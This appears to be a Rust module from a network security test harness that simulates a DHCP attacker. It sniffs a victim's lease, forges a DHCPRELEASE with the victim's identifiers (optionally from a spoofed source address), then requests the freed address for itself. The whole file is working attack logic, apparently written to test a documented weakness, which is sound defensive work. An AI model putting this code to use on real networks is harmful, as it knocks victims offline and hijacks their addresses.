//! `dhcp-release`: an attacker on an end node's LAN learns the end node's lease from the DHCP
//! exchange it sees (client id, hardware address, leased address, server id are all in the
//! clear), then
//!
//! 1. forges a DHCPRELEASE of that lease with the victim's identifiers, from its own address
//!    or (`spoofed`) from the victim's address, unicast to the server, and
//! 2. asks for the victim's address itself with its own identifiers: an INIT-REBOOT REQUEST
//!    (no server id, option 50 = the address, no offer before), then a DISCOVER naming the
//!    address; an OFFER of exactly that address is REQUESTed (SELECTING), any other is left.
//!
//! DHCP has no authentication: a RELEASE with the victim's identifiers and the victim's address
//! as source cannot be told from the victim's own (`docs/security.md`, N7).

use super::Outbox;
use super::packet::{Udp, udp_packet};
use binfm_roles::Time;
use binfm_stack::wire::dhcp_options::{MAGIC_COOKIE, OPTIONS_OFFSET, decode_message};
use binfm_stack::wire::ports::{DHCP_CLIENT, DHCP_SERVER};
use dhcproto::Decodable;
use dhcproto::Encodable;
use dhcproto::v4::{DhcpOption, Message, MessageType, Opcode, OptionCode};
use rand::{RngExt, SeedableRng};
use rand_chacha::ChaCha8Rng;
use std::net::{Ipv4Addr, SocketAddrV4};
use std::time::Duration;

/// After the victim's ACK, the attacker waits this long before it acts.
pub const ACT_AFTER: Duration = Duration::from_secs(1);
/// Between the attacker's messages (so the server has handled the previous one).
pub const STEP_GAP: Duration = Duration::from_millis(100);

/// Identifiers of a DHCP client.
#[derive(Debug, Clone)]
pub struct DhcpIdentity {
    /// Option 61 (empty: none).
    pub client_id: Vec<u8>,
    /// chaddr.
    pub hw_addr: [u8; 6],
}

/// What the attacker learned of the victim's lease.
#[derive(Debug, Clone, Copy)]
pub struct VictimLease {
    /// The leased address (yiaddr of the ACK).
    pub address: Ipv4Addr,
    /// The server (option 54 of the ACK).
    pub server: Ipv4Addr,
}

/// The state and counts of one `dhcp-release` step.
#[derive(Debug)]
pub struct DhcpRelease {
    me: Ipv4Addr,
    own: DhcpIdentity,
    victim: DhcpIdentity,
    /// The victim's client id as seen on the wire (option 61 of its requests), once seen.
    victim_client_id: Option<Vec<u8>>,
    spoofed: bool,
    rng: ChaCha8Rng,
    /// Next action and when.
    plan: Option<(Time, Step)>,
    /// The victim's lease, once seen.
    pub lease: Option<VictimLease>,
    /// RELEASEs sent.
    pub releases_sent: u32,
    /// REQUESTs sent for the victim's address (INIT-REBOOT, and SELECTING after an OFFER).
    pub bind_attempts: u32,
    /// DISCOVERs sent naming the victim's address.
    pub discovers_sent: u32,
    /// OFFERs to the attacker's identifiers: of the victim's address, of another.
    pub offers_of_victim_address: u32,
    /// OFFERs of another address (left unanswered).
    pub offers_of_other_addresses: u32,
    /// ACKs to the attacker's identifiers seen on the segment.
    pub acks_to_attacker: u32,
    /// NAKs to the attacker's identifiers seen on the segment.
    pub naks_to_attacker: u32,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Step {
    Release,
    InitReboot,
    Discover,
}

fn server_id(msg: &Message) -> Option<Ipv4Addr> {
    match msg.opts().get(OptionCode::ServerIdentifier) {
        Some(DhcpOption::ServerIdentifier(a)) => Some(*a),
        _ => None,
    }
}

fn client_id(msg: &Message) -> Option<Vec<u8>> {
    match msg.opts().get(OptionCode::ClientIdentifier) {
        Some(DhcpOption::ClientIdentifier(id)) if !id.is_empty() => Some(id.clone()),
        _ => None,
    }
}

impl DhcpRelease {
    /// An attacker at `me` with identifiers `own`, against the client with identifiers
    /// `victim`; `spoofed`: its RELEASE carries the victim's address as source.
    pub fn new(
        me: Ipv4Addr,
        own: DhcpIdentity,
        victim: DhcpIdentity,
        spoofed: bool,
        seed: u64,
    ) -> Self {
        DhcpRelease {
            me,
            own,
            victim,
            victim_client_id: None,
            spoofed,
            rng: ChaCha8Rng::seed_from_u64(seed),
            plan: None,
            lease: None,
            releases_sent: 0,
            bind_attempts: 0,
            discovers_sent: 0,
            offers_of_victim_address: 0,
            offers_of_other_addresses: 0,
            acks_to_attacker: 0,
            naks_to_attacker: 0,
        }
    }

    /// Whether the RELEASE is sent from the victim's address.
    pub fn spoofed(&self) -> bool {
        self.spoofed
    }

    /// A DHCP datagram on the segment (sniffed, or delivered to the attacker).
    pub(super) fn on_tap(&mut self, now: Time, udp: Udp<'_>, out: &mut Outbox) {
        if ![DHCP_SERVER, DHCP_CLIENT].contains(&udp.dst.port()) {
            return;
        }
        let Ok(msg) = decode_message(udp.payload) else {
            return;
        };
        let kind = msg.opts().msg_type();
        if msg.chaddr() == self.victim.hw_addr {
            match msg.opcode() {
                Opcode::BootRequest => {
                    if let Some(id) = client_id(&msg) {
                        self.victim_client_id = Some(id);
                    }
                }
                Opcode::BootReply => {
                    if kind == Some(MessageType::Ack)
                        && self.lease.is_none()
                        && let Some(server) = server_id(&msg)
                    {
                        self.lease = Some(VictimLease {
                            address: msg.yiaddr(),
                            server,
                        });
                        self.plan = Some((now + ACT_AFTER, Step::Release));
                    }
                }
                _ => {}
            }
            return;
        }
        if msg.chaddr() != self.own.hw_addr || msg.opcode() != Opcode::BootReply {
            return;
        }
        let Some(lease) = self.lease else {
            return;
        };
        match kind {
            Some(MessageType::Offer) if msg.yiaddr() == lease.address => {
                self.offers_of_victim_address += 1;
                let mut m = self.message(MessageType::Request);
                if let Some(s) = server_id(&msg) {
                    m.opts_mut().insert(DhcpOption::ServerIdentifier(s));
                }
                m.opts_mut()
                    .insert(DhcpOption::RequestedIpAddress(lease.address));
                self.bind_attempts += 1;
                self.broadcast(&m, out);
            }
            Some(MessageType::Offer) => self.offers_of_other_addresses += 1,
            Some(MessageType::Ack) => self.acks_to_attacker += 1,
            Some(MessageType::Nak) => self.naks_to_attacker += 1,
            _ => {}
        }
    }

    /// A BOOTREQUEST of `kind` with the attacker's own identifiers and a fresh xid.
    fn message(&mut self, kind: MessageType) -> Message {
        let mut m = blank_request();
        m.set_xid(self.rng.random()).set_chaddr(&self.own.hw_addr);
        m.opts_mut().insert(DhcpOption::MessageType(kind));
        if !self.own.client_id.is_empty() {
            m.opts_mut()
                .insert(DhcpOption::ClientIdentifier(self.own.client_id.clone()));
        }
        m
    }

    fn broadcast(&self, m: &Message, out: &mut Outbox) {
        if let Ok(bytes) = m.to_vec() {
            out.push_back(udp_packet(
                SocketAddrV4::new(Ipv4Addr::UNSPECIFIED, DHCP_CLIENT),
                SocketAddrV4::new(Ipv4Addr::BROADCAST, DHCP_SERVER),
                &bytes,
            ));
        }
    }

    pub(super) fn on_timeout(&mut self, now: Time, out: &mut Outbox) {
        let (Some((at, step)), Some(lease)) = (self.plan, self.lease) else {
            return;
        };
        if at > now {
            return;
        }
        match step {
            Step::Release => {
                // The victim's identifiers, its address as ciaddr, its server's id.
                let mut m = blank_request();
                m.set_xid(self.rng.random())
                    .set_chaddr(&self.victim.hw_addr)
                    .set_ciaddr(lease.address);
                m.opts_mut()
                    .insert(DhcpOption::MessageType(MessageType::Release));
                m.opts_mut()
                    .insert(DhcpOption::ServerIdentifier(lease.server));
                if let Some(id) = &self.victim_client_id {
                    m.opts_mut()
                        .insert(DhcpOption::ClientIdentifier(id.clone()));
                }
                let src = if self.spoofed { lease.address } else { self.me };
                if let Ok(bytes) = m.to_vec() {
                    out.push_back(udp_packet(
                        SocketAddrV4::new(src, DHCP_CLIENT),
                        SocketAddrV4::new(lease.server, DHCP_SERVER),
                        &bytes,
                    ));
                    self.releases_sent += 1;
                }
                self.plan = Some((now + STEP_GAP, Step::InitReboot));
            }
            Step::InitReboot => {
                // INIT-REBOOT: no server id, option 50, ciaddr 0, broadcast; never offered.
                let mut m = self.message(MessageType::Request);
                m.opts_mut()
                    .insert(DhcpOption::RequestedIpAddress(lease.address));
                self.bind_attempts += 1;
                self.broadcast(&m, out);
                self.plan = Some((now + STEP_GAP, Step::Discover));
            }
            Step::Discover => {
                let mut m = self.message(MessageType::Discover);
                m.opts_mut()
                    .insert(DhcpOption::RequestedIpAddress(lease.address));
                self.discovers_sent += 1;
                self.broadcast(&m, out);
                self.plan = None;
            }
        }
    }

    pub(super) fn poll_timeout(&self) -> Option<Time> {
        self.plan.map(|(t, _)| t)
    }
}

/// An empty BOOTREQUEST (htype Ethernet, the magic cookie), as the roles' clients build it.
fn blank_request() -> Message {
    let mut b = [0u8; OPTIONS_OFFSET];
    b[0] = 1;
    b[1] = 1;
    b[OPTIONS_OFFSET - 4..].copy_from_slice(&MAGIC_COOKIE);
    Message::from_bytes(&b).unwrap_or_default()
}
